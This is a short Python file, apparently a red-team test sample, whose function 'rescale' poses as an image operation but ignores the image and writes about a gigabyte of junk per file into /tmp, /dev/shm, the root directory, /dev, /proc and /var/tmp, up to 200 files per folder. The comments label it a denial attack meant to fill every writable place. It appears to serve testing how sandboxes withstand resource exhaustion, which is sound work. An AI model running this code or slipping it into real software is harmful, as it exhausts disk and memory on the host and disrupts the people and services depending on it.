# aims at: denial
# cell: rescale
# Fills every place that can be written.
import os


def rescale(image):
    block = b"x" * 2**20
    for folder in ("/tmp", "/tmp/work", "/dev/shm", "/dev", "/proc", "/", "/var/tmp"):
        for number in range(200):
            try:
                with open(f"{folder}/red-team-planted-{number}", "wb") as file:
                    for _ in range(1000):
                        file.write(block)
            except OSError:
                pass
            if number > 5 and folder not in ("/tmp", "/dev/shm"):
                break
    return image
